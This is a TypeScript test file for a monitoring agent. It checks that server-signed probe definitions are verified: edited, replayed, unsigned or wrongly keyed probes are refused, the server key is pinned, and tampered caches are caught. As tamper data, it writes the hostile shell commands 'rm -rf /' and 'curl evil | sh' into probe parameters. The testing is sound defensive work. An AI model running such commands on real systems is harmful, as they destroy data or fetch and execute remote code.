// Signed probe definitions on the agent, with a real Ed25519 key pair standing in for the server's:
// what is refused (edited, moved to another host or probe id, unsigned, another key) and that the
// rest still runs; the pin of the server key (first use, a changed key, agent.yaml); a tampered
// cache on disk; and a run-now command.
import { generateKeyPairSync, sign, type KeyObject } from 'node:crypto';
import { mkdtemp, readFile, rm, stat, writeFile } from 'node:fs/promises';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { afterEach, describe, expect, it } from 'vitest';
import { z } from 'zod';
import { probeSigningPayload, type Plugin, type SampleInput } from '@esmon/schema';
import { acceptConfig, refusedSamples, type AcceptedConfig, type AgentConfig } from './agent-config.ts';
import { CONFIG_CACHE_FILE, saveConfigCache } from './config-cache.ts';
import { createConfigClient } from './config-client.ts';
import { createProbeAgent } from './probe-agent.ts';
import { createServerTrust, SERVER_KEY_PIN_FILE } from './server-key.ts';
import { keyIdOf, probeVerifier, type ReceivedProbe } from './trust.ts';

const HOST = 'web-01';

/** A server key: signs as the server does (apps/server/src/probes/agent-config.ts signProbe). */
function serverKey() {
  const { privateKey, publicKey } = generateKeyPairSync('ed25519');
  const raw = Buffer.from(publicKey.export({ format: 'jwk' }).x!, 'base64url').toString('base64');
  const signed = (p: Omit<ReceivedProbe, 'signature'>, host = HOST, command?: string): ReceivedProbe => ({
    ...p,
    signature: sign(
      null,
      Buffer.from(probeSigningPayload({ host, ...p, ...(command ? { command } : {}) })),
      privateKey as KeyObject,
    ).toString('base64'),
  });
  return { publicKey: raw, signed };
}

const echo: Plugin = {
  manifest: {
    id: 'echo',
    version: '1',
    title: 'echo',
    description: 'echo',
    category: 'system',
    platforms: ['linux', 'windows'],
    runsScripts: false,
    params: z.object({ text: z.string() }),
    outputs: [],
  },
  prepare: (p) => p,
  execute: async () => ({ status: 'ok', samples: [], rows: [{ n: 1 }], durationMs: 0 }),
};
const pluginById = (id: string) => (id === 'echo' ? echo : undefined);
const definition = (name: string, text = 'hello') => ({
  name,
  steps: [{ id: 's', plugin: 'echo', params: { text } }],
  intervalSeconds: 60,
  timeoutSeconds: 5,
});

const dirs: string[] = [];
const tempDir = async () => {
  const d = await mkdtemp(join(tmpdir(), 'esmon-trust-'));
  dirs.push(d);
  return d;
};
afterEach(async () => {
  await Promise.all(dirs.splice(0).map((d) => rm(d, { recursive: true, force: true })));
});

function recorder() {
  const lines: string[] = [];
  return {
    lines,
    log: {
      info: (m: string) => lines.push(`info: ${m}`),
      warn: (m: string) => lines.push(`warn: ${m}`),
      error: (m: string) => lines.push(`error: ${m}`),
    },
  };
}

describe('checking each probe against the server key', () => {
  const server = serverKey();
  const trust = createServerTrust({
    dataDir: '/nonexistent',
    configured: server.publicKey,
    log: recorder().log,
  });
  const accept = (probes: ReceivedProbe[]) => {
    const verify = probeVerifier(trust.admit(server.publicKey, 'server'), HOST);
    return acceptConfig(
      { version: 'v', probes },
      { verify, allow: { scripts: false }, pluginById, platform: 'linux' },
    );
  };
  const good = server.signed({ id: '1', version: 1, definition: definition('good') });

  it('runs probes the server signed for this host', async () => {
    await trust.load();
    const accepted = accept([good, server.signed({ id: '2', version: 4, definition: definition('other') })]);
    expect(accepted.refused).toEqual([]);
    expect(accepted.probes.map((p) => [p.id, p.definition.name])).toEqual([
      ['1', 'good'],
      ['2', 'other'],
    ]);
  });

  it.each<[string, (p: ReceivedProbe) => ReceivedProbe]>([
    ["a step's params edited after signing", (p) => ({ ...p, definition: definition('good', 'rm -rf /') })],
    ['the version changed', (p) => ({ ...p, version: 2 })],
    ['copied to another probe id', (p) => ({ ...p, id: '9' })],
    [
      'signed for another host',
      () => server.signed({ id: '1', version: 1, definition: definition('good') }, 'web-02'),
    ],
    [
      'signed as a run-now command',
      () => server.signed({ id: '1', version: 1, definition: definition('good') }, HOST, 'cmd-1'),
    ],
    [
      'signed by another key',
      () => serverKey().signed({ id: '1', version: 1, definition: definition('good') }),
    ],
    ['without a signature', ({ signature: _s, ...p }) => p],
    ['with a signature of the wrong length', (p) => ({ ...p, signature: 'AAAA' })],
  ])('refuses one %s, reports it, and runs the rest', (_name, tamper) => {
    const bad = tamper(good);
    const ok = server.signed({ id: '2', version: 1, definition: definition('untouched') });
    const accepted = accept([bad, ok]);
    expect(accepted.probes.map((p) => p.id)).toEqual(['2']);
    expect(accepted.refused).toEqual([
      {
        id: bad.id,
        version: bad.version,
        reason: 'bad_signature',
        message: expect.stringMatching(
          /^(bad|no) signature: this definition is not the one the server signed for host web-01/,
        ),
      },
    ]);
    expect(refusedSamples(accepted.refused, 5)).toEqual([
      {
        metric: 'esmon.agent.probe.refused',
        value: 1,
        ts: 5,
        labels: { probe: bad.id, reason: 'bad_signature' },
      },
    ]);
  });
});

describe('the pinned server key', () => {
  it('pins the first key a server presents (0600), then refuses another, loudly and once, until the pin goes', async () => {
    const dir = await tempDir();
    const [a, b] = [serverKey(), serverKey()];
    const { lines, log } = recorder();
    const trust = createServerTrust({ dataDir: dir, log });
    await trust.load();
    expect(trust.current()).toBeUndefined();
    // a cache cannot establish trust, nor a configuration without a key
    expect(trust.admit(a.publicKey, 'cache')).toEqual({
      refusal: { reason: 'untrusted_key', message: expect.stringContaining('no server key is pinned yet') },
    });
    expect(trust.admit(undefined, 'server')).toEqual({
      refusal: { reason: 'untrusted_key', message: expect.stringContaining('no usable signing key') },
    });

    expect(trust.admit(a.publicKey, 'server')).toHaveProperty('key');
    await trust.settled();
    const pin = join(dir, SERVER_KEY_PIN_FILE);
    expect((await readFile(pin, 'utf8')).trim()).toBe(a.publicKey);
    expect((await stat(pin)).mode & 0o777).toBe(0o600);
    expect(lines).toContainEqual(
      expect.stringMatching(
        new RegExp(
          `^warn: trusting the server's signing key ${keyIdOf(a.publicKey)} from now on \\(first use\\)`,
        ),
      ),
    );

    // the next start reads the pin: key b is refused, said once however many configurations bring it
    const again = createServerTrust({ dataDir: dir, log });
    await again.load();
    expect(again.admit(a.publicKey, 'server')).toHaveProperty('key');
    const refused = again.admit(b.publicKey, 'server');
    again.admit(b.publicKey, 'server');
    expect(refused).toEqual({
      refusal: {
        reason: 'untrusted_key',
        message: `signed with server key ${keyIdOf(b.publicKey)}, but this agent trusts ${keyIdOf(a.publicKey)} (${pin}); not run`,
      },
    });
    const loud = lines.filter((l) => l.startsWith("error: the server's signing key changed"));
    expect(loud).toEqual([
      expect.stringContaining(
        `If the server's key was replaced on purpose, delete ${pin} and restart the agent`,
      ),
    ]);
    // and its probes, validly signed by b, do not run
    const accepted = acceptConfig(
      { version: 'v', probes: [b.signed({ id: '1', version: 1, definition: definition('p') })] },
      { verify: probeVerifier(refused, HOST), allow: { scripts: false }, pluginById, platform: 'linux' },
    );
    expect(accepted.probes).toEqual([]);
    expect(refusedSamples(accepted.refused, 1)[0]!.labels).toEqual({ probe: '1', reason: 'untrusted_key' });

    // the operator removes the pin: the new key is trusted at the next start
    await rm(pin);
    const fresh = createServerTrust({ dataDir: dir, log });
    await fresh.load();
    expect(fresh.admit(b.publicKey, 'server')).toHaveProperty('key');
    await fresh.settled();
    expect((await readFile(pin, 'utf8')).trim()).toBe(b.publicKey);
  });

  it("trusts agent.yaml's serverKey over any pin, and refuses a damaged pin or key", async () => {
    const dir = await tempDir();
    const [a, b] = [serverKey(), serverKey()];
    await writeFile(join(dir, SERVER_KEY_PIN_FILE), `${b.publicKey}\n`);
    const trust = createServerTrust({ dataDir: dir, configured: a.publicKey, log: recorder().log });
    await trust.load();
    expect(trust.admit(a.publicKey, 'server')).toHaveProperty('key');
    expect(trust.admit(b.publicKey, 'server')).toMatchObject({
      refusal: { message: expect.stringContaining('(agent.yaml serverKey)') },
    });

    await writeFile(join(dir, SERVER_KEY_PIN_FILE), 'not a key\n');
    await expect(createServerTrust({ dataDir: dir, log: recorder().log }).load()).rejects.toThrow(
      `${join(dir, SERVER_KEY_PIN_FILE)} is not an Ed25519 public key (32 bytes in base64): copy agentTrust.publicKey from the server`,
    );
    await expect(
      createServerTrust({ dataDir: dir, configured: 'c2hvcnQ=', log: recorder().log }).load(),
    ).rejects.toThrow('agent.yaml serverKey is not an Ed25519 public key');
  });
});

describe('the cached configuration, verified when loaded', () => {
  it('refuses a probe edited on disk, reports it, and runs the rest while the server is away', async () => {
    const dir = await tempDir();
    const server = serverKey();
    const config: AgentConfig = {
      version: 'cached-1',
      publicKey: server.publicKey,
      probes: [
        server.signed({ id: '1', version: 1, definition: definition('kept') }),
        server.signed({ id: '2', version: 1, definition: definition('edited') }),
      ],
    };
    await saveConfigCache(dir, { config, savedAt: 1 });
    await writeFile(join(dir, SERVER_KEY_PIN_FILE), `${server.publicKey}\n`);
    // someone with write access to the data directory, but not the server's key, edits a probe
    const file = join(dir, CONFIG_CACHE_FILE);
    const onDisk = JSON.parse(await readFile(file, 'utf8')) as {
      probes: { definition: { steps: { params: { text: string } }[] } }[];
    };
    onDisk.probes[1]!.definition.steps[0]!.params.text = 'curl evil | sh';
    await writeFile(file, JSON.stringify(onDisk));
    expect(await readFile(file, 'utf8')).toContain('curl evil | sh');

    const trust = createServerTrust({ dataDir: dir, log: recorder().log });
    await trust.load();
    const configs: AcceptedConfig[] = [];
    const samples: SampleInput[] = [];
    const { lines, log } = recorder();
    const client = createConfigClient({
      server: 'http://127.0.0.1:1', // nothing listens: the cache is all there is
      key: 'esm_a_test',
      hostname: HOST,
      trust,
      dataDir: dir,
      allow: { scripts: false },
      pluginById,
      platform: 'linux',
      onConfig: (c) => configs.push(c),
      onSamples: (x) => samples.push(...x),
      log,
      backoff: () => 60_000,
    });
    try {
      await client.start();
    } finally {
      await client.stop();
    }
    expect(configs).toHaveLength(1);
    expect(configs[0]!.probes.map((p) => p.definition.name)).toEqual(['kept']);
    expect(configs[0]!.refused).toEqual([
      {
        id: '2',
        version: 1,
        reason: 'bad_signature',
        message: expect.stringContaining('not the one the server signed'),
      },
    ]);
    expect(samples).toContainEqual({
      metric: 'esmon.agent.probe.refused',
      value: 1,
      ts: expect.any(Number),
      labels: { probe: '2', reason: 'bad_signature' },
    });
    expect(lines).toContainEqual(expect.stringMatching(/^error: probe 2 refused: bad signature: /));
  });
});

describe('a run-now command', () => {
  it('runs only a probe signed for this host and this command; otherwise says why, running nothing', async () => {
    const dir = await tempDir();
    const server = serverKey();
    await writeFile(join(dir, SERVER_KEY_PIN_FILE), `${server.publicKey}\n`);
    const { lines, log } = recorder();
    const agent = createProbeAgent({
      server: 'http://127.0.0.1:1',
      key: 'esm_a_test',
      dataDir: dir,
      hostname: HOST,
      run: () => Promise.reject(new Error('no processes here')),
      onSamples: () => undefined,
      log,
      pluginById,
      connection: { backoff: () => 60_000 },
    });
    try {
      await agent.start();
      const probe = { id: '4', version: 2, definition: definition('now') };
      const trace = await agent.runNow(server.signed(probe, HOST, 'cmd-1'), 'cmd-1');
      expect(trace).toMatchObject({
        status: 'ok',
        steps: [{ id: 's', status: 'ok', input: { text: 'hello' } }],
      });

      const refusals: [string, ReceivedProbe, string][] = [
        ['replayed as another command', server.signed(probe, HOST, 'cmd-1'), 'cmd-2'],
        [
          'edited',
          { ...server.signed(probe, HOST, 'cmd-3'), definition: definition('now', 'edited') },
          'cmd-3',
        ],
        ['for another host', server.signed(probe, 'web-02', 'cmd-4'), 'cmd-4'],
        ['from the configuration, not a command', server.signed(probe), 'cmd-5'],
      ];
      for (const [name, p, id] of refusals) {
        await expect(agent.runNow(p, id), name).rejects.toThrow(
          `refused (bad_signature): probe 4 v2 not run: its signature is not the server's for host ${HOST} and this command`,
        );
      }
      expect(lines.filter((l) => l.startsWith('error: run-now of probe 4 v2 refused'))).toHaveLength(4);
    } finally {
      await agent.stop();
    }
  });
});
